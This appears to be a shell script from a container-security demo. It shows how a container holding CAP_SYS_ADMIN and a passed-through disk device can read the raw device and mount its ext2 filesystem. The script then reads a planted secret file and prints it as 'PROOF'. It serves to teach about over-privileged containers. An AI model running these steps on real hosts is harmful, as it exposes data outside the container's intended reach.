# Attack: CAP_SYS_ADMIN is "the new root": among much else it lets us call mount(2).
# The container was given a disk device (--device), as operators do for a
# database or a backup job. The device layer lets us open it; mounting the
# filesystem on it is what CAP_SYS_ADMIN adds. The demo's disk is a small
# read-only loop device with a secret on it, at $MC_DISK_NODE.
echo "target: the filesystem on $MC_DISK_NODE"
ls -l "$MC_DISK_NODE" 2>&1
if dd if="$MC_DISK_NODE" of=/dev/null bs=512 count=1 2>/dev/null; then
    echo "read a block of $MC_DISK_NODE: ok (the raw bytes are ours already)"
else
    echo "read a block of $MC_DISK_NODE: refused"
fi
# The raw bytes are hard to use; a mount turns them into the files. It needs
# CAP_SYS_ADMIN, and the host's user namespace: a disk filesystem (ext2 here) is
# never mountable from a user namespace, whatever its capabilities.
mkdir -p /mnt/disk
if mount -o ro -t ext2 "$MC_DISK_NODE" /mnt/disk; then
    echo "mount -o ro -t ext2 $MC_DISK_NODE /mnt/disk: ok"
    echo "read /mnt/disk/secret: PROOF $(cat /mnt/disk/secret 2>&1)"
    umount /mnt/disk
else
    echo "mount -o ro -t ext2 $MC_DISK_NODE /mnt/disk: refused"
fi
